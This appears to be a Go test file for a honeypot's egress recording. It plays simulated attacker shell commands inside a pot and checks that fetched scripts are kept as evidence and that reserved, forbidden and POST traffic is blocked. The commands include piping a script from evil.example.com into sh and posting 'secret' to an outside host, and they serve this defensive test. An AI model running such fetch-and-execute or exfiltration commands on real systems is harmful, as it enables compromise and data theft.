package honeypot_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net/http"
	"net/netip"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kokkuri/kokkuri/internal/event"
	"github.com/kokkuri/kokkuri/internal/honeypot"
	"github.com/kokkuri/kokkuri/internal/honeypot/pottest"
)

// With record a pot gets what is there, the node keeps it, and nothing of ours is reached. The test's host plays the
// internet: it has public addresses.
func TestRecording(t *testing.T) {
	f := newFixture(t)
	const script = "#!/bin/sh\necho owned\n"
	var hits, inside atomic.Int64
	serve := func(at string, fn http.HandlerFunc) {
		t.Helper()
		ns := f.Host
		if strings.HasPrefix(at, "198.51.100.20") {
			ns = f.Node
		}
		l, err := ns.ListenTCP(netip.MustParseAddrPort(at))
		require.NoError(t, err)
		srv := &http.Server{Handler: fn}
		done := make(chan struct{})
		go func() { _ = srv.Serve(l); close(done) }()
		t.Cleanup(func() { _ = srv.Close(); <-done })
	}
	for _, a := range []string{"45.32.1.2", "45.32.1.3"} {
		pottest.Run(t, "ip", "-n", f.HostName, "addr", "add", a+"/32", "dev", "lo")
		pottest.Run(t, "ip", "-n", f.NodeName, "route", "add", a, "via", "198.51.100.10")
	}
	serve("45.32.1.2:80", func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		if r.URL.Path == "/away" {
			http.Redirect(w, r, "http://198.51.100.20/secret", http.StatusFound)
			return
		}
		_, _ = fmt.Fprint(w, script)
	})
	for _, a := range []string{"198.51.100.10:80", "198.51.100.20:80", "45.32.1.3:80"} {
		serve(a, func(http.ResponseWriter, *http.Request) { inside.Add(1) })
	}
	f.opts.Egress = honeypot.Egress{
		Most: event.EgressRecord, PerMinute: 100, AllPerMinute: 100,
		Forbid: []netip.Prefix{netip.MustParsePrefix("45.32.1.3/32")},
		Resolve: func(_ context.Context, name string) ([]netip.Addr, error) {
			if name == "inwards.example.com" {
				return []netip.Addr{netip.MustParseAddr("198.51.100.10")}, nil
			}
			return []netip.Addr{netip.MustParseAddr("45.32.1.2")}, nil
		},
	}
	n, _ := f.run(t)
	assert.Contains(t, fmt.Sprint(n.Findings()), "RECORDING IS ON")
	reply := f.bus.request(t.Context(), event.LeaseRequest{
		Op: "grant", Attacker: netip.MustParsePrefix("203.0.113.66/32"), Host: "web", Service: event.SSH, Egress: event.EgressRecord,
		Seen: []netip.Addr{netip.MustParseAddr("198.51.100.10")}, Expires: time.Now().Add(time.Hour),
	})
	require.Empty(t, reply.Error)
	require.Eventually(t, func() bool { f.bus.mu.Lock(); defer f.bus.mu.Unlock(); return f.bus.status.Node != "" }, time.Minute, 5*time.Millisecond)
	out, err := f.shell(t.Context(), reply.Lease.Endpoint, `curl -s http://evil.example.com/x.sh | sh
curl -s http://45.32.1.2/direct
curl -sL -m 5 -o /dev/null -w '%{url_effective} %{http_code}\n' http://evil.example.com/away
curl -s -m 5 -o /dev/null -w 'inwards %{http_code}\n' http://inwards.example.com/
curl -s -m 5 -o /dev/null -w 'forbidden %{http_code}\n' http://45.32.1.3/
curl -s -m 5 -o /dev/null -w 'host %{http_code}\n' http://198.51.100.10/
curl -s -m 5 -o /dev/null -w 'posted %{http_code}\n' -d secret http://evil.example.com/post`)
	require.NoError(t, err, out)
	assert.Equal(t, "owned\n"+script+"http://198.51.100.20/secret 200\ninwards 200\nforbidden 200\nhost 200\nposted 200\n", out)
	assert.Equal(t, int64(3), hits.Load())
	assert.Zero(t, inside.Load(), "what is ours was reached")

	e := f.called(t, "a fetch", request("http://evil.example.com/x.sh"))
	assert.Equal(t, "fetched", e.How)
	for url, why := range map[string]string{
		"http://198.51.100.20/secret": "is reserved", "http://inwards.example.com/": "is reserved", "http://45.32.1.3/": "honeypot.egress.forbid",
		"http://evil.example.com/post": "only GET",
	} {
		assert.Contains(t, f.called(t, url, request(url)).How, why)
	}
	sum := sha256.Sum256([]byte(script))
	want := hex.EncodeToString(sum[:])
	found := false
	f.bus.mu.Lock()
	for _, left := range f.bus.evidence {
		for _, x := range left {
			found = found || x.File != nil && x.File.How == "fetched" && x.File.URL == "http://evil.example.com/x.sh" && x.File.SHA256 == want
		}
	}
	f.bus.mu.Unlock()
	assert.True(t, found, "the file is evidence")
	kept := f.bus.serveEvidence(t.Context(), event.EvidenceRequest{SHA256: want})
	assert.Equal(t, script, string(kept.Data))
}
